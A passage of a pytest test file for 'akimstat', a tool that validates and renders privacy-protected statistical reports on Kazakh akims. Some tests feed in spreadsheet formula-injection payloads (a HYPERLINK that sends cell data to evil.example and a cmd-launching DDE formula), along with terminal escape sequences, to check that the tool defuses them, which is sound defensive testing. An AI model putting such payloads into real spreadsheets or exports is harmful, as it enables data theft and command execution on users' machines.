    "figure_negative_posts": Case(table(FIGURES_HEADER, "2013,national,posts,-2457,posts,article,,"),
                                  2, "value", "a figure of 0 or more", name="figures.csv"),
    "figure_zero_posts": Case(table(FIGURES_HEADER, "2013,national,posts,0,posts,article,,"), 2,
                              "value", "a posts total above 0", name="figures.csv"),
}


@pytest.mark.parametrize("name", ROUND_TWO)
def test_library_refuses_bad_file_round_two(name, tmp_path, published, monkeypatch):
    monkeypatch.setitem(CASES, name, ROUND_TWO[name])
    test_library_refuses_bad_file(name, tmp_path, published)


@pytest.mark.parametrize("name", ROUND_TWO)
def test_command_line_refuses_bad_file_round_two(name, tmp_path, monkeypatch, published_only):
    monkeypatch.setitem(CASES, name, ROUND_TWO[name])
    test_command_line_refuses_bad_file(name, tmp_path, monkeypatch, published_only)


def test_workbook_number_too_large_for_int64_is_refused(tmp_path, published_only):
    header = FIELDS
    row = GOOD_RECORD.split(",")
    data = cells(header_and_rows(header, row)).replace(
        f'<c r="H2" t="inlineStr"><is><t>{row[7]}</t></is></c>', '<c r="H2"><v>1E+20</v></c>')
    path = write_workbook(tmp_path / "records.xlsx", {"Sheet1": data})
    _refused(["validate", str(path), "--data", str(published_only)], tmp_path,
             f"{path}, row 2, column 'age': got '100000000000000000000'", "of at most 15 digits")


def _edit_csv(relative: str, old: str, new: str):
    def apply(root: Path):
        path = root / relative
        text = path.read_text(encoding="utf-8")
        assert old in text
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return apply


def _drop_roles(*roles: str):
    return _edit(lambda d: d.update(resources=[r for r in d["resources"] if r["akimstat:role"] not in roles]))


FOLDERS = {
    # name: (change(root), file, where after the file, says)
    "min_age_negative": (_edit_csv("codes/cycles.csv", "2013-08-04,18,", "2013-08-04,-5,"),
                         "codes/cycles.csv", ", row 2, column 'min_age'", "a minimum age from 18 to 80"),
    "nothing_to_describe": (_drop_roles("records", "counts", "figures"), "datapackage.json", ";",
                            "a resource with role records (or published counts or figures"),
    "no_sources_resource": (_drop_roles("sources"), "datapackage.json", ";",
                            "a resource with role sources"),
}


@pytest.mark.parametrize("name", FOLDERS)
def test_folder_that_cannot_make_reports_is_refused_by_validate_and_render(name, tmp_path):
    change, file, where, says = FOLDERS[name]
    root = _data_copy(tmp_path)
    change(root)
    _refused(["validate", str(root)], tmp_path, str(root / file) + where, says)
    _refused(["render", "--data", str(root), "--output", str(tmp_path / "out"), "--quiet"], tmp_path,
             str(root / file) + where, says)


@pytest.mark.parametrize("name, option, says", [
    ("seed_negative", ["-p", "seed=-1"], "parameter 'seed' must be from 0 to 4294967295; received -1"),
    ("seed_too_large", ["-p", "seed=4294967296"], "parameter 'seed' must be from 0 to 4294967295"),
    ("alpha_tiny", ["-p", "alpha=1.0e-300"], "parameter 'alpha' must be between 0 and 0.5 (at least 1e-06"),
    ("cycle_is_baseline", ["--cycle", "2013", "--baseline", "2013"],
     "parameters 'cycle' and 'baseline' must differ; both are '2013'"),
])
def test_parameter_a_report_cannot_use_is_refused_before_rendering(name, option, says, tmp_path):
    _refused(["render", "--data", str(DATA), "--output", str(tmp_path / "out"), "--quiet", *option],
             tmp_path, "akimstat: error: arguments: ", says)


@pytest.mark.parametrize("name, write, says", [
    ("params_in_cp1251", lambda p: p.write_bytes("cycle: '2013'\n# әкім\n".encode("cp1251", "replace")
                                                 + "# акимы\n".encode("cp1251")),
     "not UTF-8 text (byte"),
    ("params_a_folder", lambda p: p.mkdir(), "a folder, not a parameter file"),
])
def test_parameter_file_unreadable_is_refused(name, write, says, tmp_path):
    path = tmp_path / "report.yaml"
    write(path)
    _refused(["render", "--params", str(path), "--output", str(tmp_path / "out"), "--quiet"], tmp_path,
             f"akimstat: error: {path}: ", says)


@pytest.mark.parametrize("name, option, says", [
    ("synth_out_a_file", ["--out", "file.txt"], "--out file.txt: not a folder"),
    ("synth_seed_negative", ["--seed", "-1"], "--seed must be from 0 to 4294967295; received -1"),
])
def test_synth_refuses_what_it_cannot_use(name, option, says, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "file.txt").write_text("mine", encoding="utf-8")
    _refused(["synth", "--data", str(DATA), *option], tmp_path, "akimstat: error: ", says)


# -- round two: messages show what is wrong, briefly, and cannot drive the terminal ------------
def _records_file(tmp_path: Path, text: str, name="records.csv", encoding="utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def test_header_with_terminal_escapes_is_shown_escaped(tmp_path, published_only):
    header = FIELDS + ["\x1b[2J\x1b[32mok"]
    path = _records_file(tmp_path, records(record(1), header=header))
    output = _refused(["validate", str(path), "--data", str(published_only)], tmp_path,
                      f"{path}, row 1, column '\\x1b[2J\\x1b[32mok'", "only the columns")
    assert "\x1b" not in output


def test_bidirectional_override_in_a_value_is_shown_escaped(tmp_path, published_only):
    path = _records_file(tmp_path, records(record(1, sex="fe\u202emale")))
    output = _refused(["validate", str(path), "--data", str(published_only)], tmp_path,
                      f"{path}, row 2, column 'sex': got 'fe\\u202emale'", "a sex code")
    assert "\u202e" not in output


def test_huge_value_is_echoed_in_at_most_about_200_characters(tmp_path, published_only):
    path = _records_file(tmp_path, records(record(1, district="д" * 100_000)))
    output = _refused(["validate", str(path), "--data", str(published_only)], tmp_path,
                      f"{path}, row 2, column 'district': got 'дддд", "(100,000 characters); "
                      "expected a district name or code, at most 80 characters")
    assert len(output) < 600, len(output)


def test_huge_parameter_value_is_echoed_briefly(tmp_path):
    path = tmp_path / "report.yaml"
    # 900,000 characters: a parameter file over 1 MB is refused as such (akimstat.useryaml)
    path.write_text(yaml.safe_dump({"cycle": "9" * 900_000, "data_dir": str(DATA)}), encoding="utf-8")
    output = _refused(["render", "--params", str(path), "--output", str(tmp_path / "out"), "--quiet"],
                      tmp_path, "parameter 'cycle': no data for cycle '9999", "(900,000 characters)")
    assert len(output) < 600, len(output)


def test_unclosed_quote_is_reported_where_it_opens(tmp_path, published_only):
    rows = [record(n) for n in range(1, 21)]
    rows[2] = record(3, district='"KZ-PAV-D01')  # line 4 of 21
    path = _records_file(tmp_path, records(*rows))
    _refused(["validate", str(path), "--data", str(published_only)], tmp_path, f"{path}, row 4;",
             "valid CSV (unexpected end of data): a double quote opened in this row is never closed")


@pytest.mark.parametrize("name, encoding", [("utf16_with_bom", "utf-16"), ("utf16_le_without_bom", "utf-16-le")])
def test_utf16_file_is_named_as_such(name, encoding, tmp_path, published_only):
    path = _records_file(tmp_path, records(record(1)), encoding=encoding)
    _refused(["validate", str(path), "--data", str(published_only)], tmp_path, f"{path};",
             "this file is in UTF-16 (Excel's \"Unicode text\"): save it as CSV UTF-8")


def test_utf16_file_is_read_when_named(tmp_path, published):
    path = _records_file(tmp_path, records(record(1)), encoding="utf-16")
    assert len(check_records(read_table(path, "utf-16"), published.codes, str(path))) == 1


def test_workbook_of_several_sheets_names_the_sheet_in_every_message(tmp_path, published_only):
    bad = GOOD_RECORD.replace("female", "F").split(",")
    path = write_workbook(tmp_path / "records.xlsx", {
        "Реестр": cells(header_and_rows(FIELDS, bad)), "Notes": cells({1: {"A": "ignored"}})})
    _refused(["validate", str(path), "--data", str(published_only)], tmp_path,
             f"{path} (sheet 'Реестр'), row 2, column 'sex': got 'F'", "a sex code")
    good = write_workbook(tmp_path / "good.xlsx", {
        "Реестр": cells(header_and_rows(FIELDS, GOOD_RECORD.split(","))), "Notes": ""})
    result = CliRunner().invoke(main, ["validate", str(good), "--data", str(published_only)])
    assert result.output == f"ok  {good} (sheet 'Реестр'): records, 1 row\n", result.output


# -- round two: disclosure and privacy at the input ---------------------------------------------
PRIVACY = {
    "region_before_it_existed": Case(records(record(1, region="KZ-10")), 2, "region",
                                     "a region that existed on the date of cycle 2013 (2013-08-05); "
                                     "KZ-10 existed from 2022-06-08"),
    "scope_before_it_existed": Case(table(COUNTS_HEADER, "2013,KZ-10,akims,sex,female,3,10,,article,,"),
                                    2, "scope", "a region that existed on the date of cycle 2013",
                                    name="counts.csv"),
    "name_as_record_id": Case(records(record(1, record_id="Ivanov_Ivan_Ivanovich")), 2, "record_id",
                              "a pseudonymous id without a word or name in it"),
    "name_as_person_id": Case(records(record(1, person_id="asel.nurlanovna")), 2, "person_id",
                              "a pseudonymous id without a word or name in it"),
}


@pytest.mark.parametrize("name", PRIVACY)
def test_library_refuses_what_would_disclose(name, tmp_path, published, monkeypatch):
    monkeypatch.setitem(CASES, name, PRIVACY[name])
    test_library_refuses_bad_file(name, tmp_path, published)


@pytest.mark.parametrize("name", PRIVACY)
def test_command_line_refuses_what_would_disclose(name, tmp_path, monkeypatch, published_only):
    monkeypatch.setitem(CASES, name, PRIVACY[name])
    test_command_line_refuses_bad_file(name, tmp_path, monkeypatch, published_only)


def test_pseudonymous_ids_of_the_shipped_kind_pass(write_csv, published):
    rows = [record(1, record_id="R13-00001", person_id="P00336"), record(2, record_id="KZPAV0001",
                                                                         person_id="rec12")]
    assert len(check_records(read_table(write_csv(records(*rows))), published.codes, "x")) == 2


def _with_districts(root: Path) -> Path:
    """Give a data copy a districts code list holding every district of its records."""
    frames = [pd.read_csv(root / "synthetic" / name, dtype=str) for name in
              ("records-2013.csv", "records-pre-2013.csv")]
    pairs = pd.concat(frames)[["district", "region"]].drop_duplicates().rename(columns={"district": "code"})
    pairs.to_csv(root / "codes" / "districts.csv", index=False)
    _edit(lambda d: d["resources"].insert(4, {"name": "districts", "path": "codes/districts.csv",
                                              "akimstat:role": "districts"}))(root)
    return root


def test_district_outside_the_code_list_is_refused(tmp_path):
    root = _with_districts(_data_copy(tmp_path))
    assert load_dataset(root).codes.districts is not None
    _edit_csv("synthetic/records-2013.csv", "KZ-AKM-D01", '=HYPERLINK(""http://evil.example"")')(root)
    _refused(["validate", str(root)], tmp_path, f"{root / 'synthetic/records-2013.csv'}, row 2, "
             "column 'district'", "a district code of region KZ-AKM in the districts code list")


def test_district_of_another_region_is_refused(tmp_path):
    root = _with_districts(_data_copy(tmp_path))
    _edit_csv("synthetic/records-2013.csv", "KZ-AKM,KZ-AKM-D01", "KZ-AKM,KZ-PAV-D01")(root)
    _refused(["validate", str(root)], tmp_path, f"{root / 'synthetic/records-2013.csv'}, row 2, "
             "column 'district': got 'KZ-PAV-D01'", "a district code of region KZ-AKM")


@pytest.mark.parametrize("name, option, says", [
    ("sensitive_unknown", ["-p", "sensitive_variables=[ethnicty]"],
     "parameter 'sensitive_variables': unknown variable(s) 'ethnicty'; known: sex,"),
    ("min_scope_size_zero", ["-p", "min_scope_size=0"], "parameter 'min_scope_size' must be 1 or more"),
])
def test_disclosure_parameter_is_refused(name, option, says, tmp_path):
    _refused(["render", "--data", str(DATA), "--output", str(tmp_path / "out"), "--quiet", *option],
             tmp_path, "akimstat: error: arguments: ", says)


@pytest.mark.parametrize("option, warning", [
    (["-p", "suppression_threshold=0"], "suppression_threshold is 0: counts of 1 are published unsuppressed"),
    (["-p", "sensitive_variables=[]"], "sensitive_variables is empty: no small count is suppressed"),
])
def test_parameters_that_publish_small_counts_are_warned_about(option, warning, tmp_path):
    # The scope is refused, so that the warning is seen without a render.
    output = _refused(["render", "--data", str(DATA), "--output", str(tmp_path / "out"), "--quiet",
                       "--scope", "KZ-XXX", *option], tmp_path, "akimstat: error: scope 'KZ-XXX'",
                      "not national, a region code or a region's name")
    assert f"akimstat: warning: {warning}" in output


def test_scope_below_the_minimum_size_gets_no_report(tmp_path, shipped):
    from akimstat.params import ReportParameters
    from akimstat.publish.plan import plan_jobs, small_scopes

    params = ReportParameters(cycle="2013", min_scope_size=100)
    small = small_scopes(params, shipped, ["2013"])
    assert small[("2013", "KZ-MAN")] == 58 and ("2013", "national") not in small
    planned = {job.output.split("/")[1] for job in plan_jobs(params, shipped, languages=["en"])}
    assert planned and not planned & {scope for _, scope in small}
    with pytest.raises(ParameterError, match=r"scope KZ-MAN \(58 akims in cycle 2013\): fewer akims "
                                             r"than parameter 'min_scope_size', 100"):
        plan_jobs(params, shipped, ["KZ-MAN"], ["en"])
    _refused(["render", "--data", str(DATA), "--output", str(tmp_path / "out"), "--quiet", "--cycle",
              "2013", "--scope", "KZ-MAN", "-p", "min_scope_size=100"], tmp_path,
             "akimstat: error: scope KZ-MAN", "a report about so few people discloses them")


def test_a_corps_of_one_gets_no_report(tmp_path):
    root = _data_copy(tmp_path)
    for name in ("records-2013.csv", "records-pre-2013.csv"):
        path = root / "synthetic" / name
        path.write_text("".join(path.read_text(encoding="utf-8").splitlines(keepends=True)[:2]),
                        encoding="utf-8")
    _refused(["render", "--data", str(root), "--output", str(tmp_path / "out"), "--quiet", "--cycle",
              "2013"], tmp_path, "akimstat: error: scope national (1 akims in cycle 2013)",
             "fewer akims than parameter 'min_scope_size', 10")


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=1+1", "@SUM(A1)",
                                  "+1+cmd|' /C calc'!A0", "-1+2", "\t=1", "-2 pp"])
def test_formula_in_a_written_table_is_made_inert(cell, tmp_path):
    from akimstat.report.document import _write_csv

    numbers = ["-0.3", "+4,7", "-1\u00a0234", "+4,7\u00a0%", "+1"]  # as the reports write them
    frame = pd.DataFrame({"district": [cell, "KZ-PAV-D01", *numbers], "akims": [-2, 3, 4, 5, 6, 7, 8],
                          "share": [-0.5, 0.25, 1.0, 1.0, 1.0, 1.0, 1.0]})
    text = _write_csv(frame, tmp_path / "districts.csv").read_text(encoding="utf-8")
    back = pd.read_csv(tmp_path / "districts.csv", dtype=str, keep_default_na=False)
    assert back["district"].tolist() == ["'" + cell, "KZ-PAV-D01", *numbers], text
    assert back["akims"].tolist()[:3] == ["-2", "3", "4"] and back["share"].tolist()[:3] == ["-0.5", "0.25", "1"]


@pytest.mark.parametrize("cell", ["Aral\rdistrict", "Aral\r\ndistrict", "\r=1+1"])
def test_a_carriage_return_in_a_written_cell_does_not_split_its_row(cell, tmp_path):
    """A CSV reader takes a bare CR for the end of a row unless the cell is quoted; the line
    break stays in the cell, as a quoted LF."""
    from akimstat.report.document import _write_csv

    frame = pd.DataFrame({"district": [cell, "KZ-PAV-D01"], "akims": [2, 3]})
    _write_csv(frame, tmp_path / "districts.csv")
    with open(tmp_path / "districts.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 3 and rows[2] == ["KZ-PAV-D01", "3"], rows
    assert "\r" not in rows[1][0] and "district" in rows[1][0] or rows[1][0].startswith("'")


def test_absolute_data_folder_is_not_in_the_executed_notebook_or_the_provenance():
    import nbformat

    from akimstat.publish.job import Job
    from akimstat.publish.notebook import normalised
    from akimstat.provenance import portable

    given = "/home/ivanov/akimstat-data"
    cell = nbformat.v4.new_code_cell(f'# Parameters\ndata_dir = "{given}"\nnote = "x"\n',
                                     metadata={"tags": ["injected-parameters"]})
    nb = nbformat.v4.new_notebook(cells=[cell], metadata={"papermill": {"parameters": {
        "data_dir": given, "note": "x"}}})
    job = Job(Path("report.ipynb"), {"data_dir": given, "note": "x"}, "2013/national/en", "en", "t", ())
    text = nbformat.writes(normalised(nb, job))
    assert "ivanov" not in text and 'data_dir = \\"akimstat-data\\"' in text
    assert portable("data_dir", given) == "akimstat-data"
    assert portable("data_dir", str(DATA)) == "data"
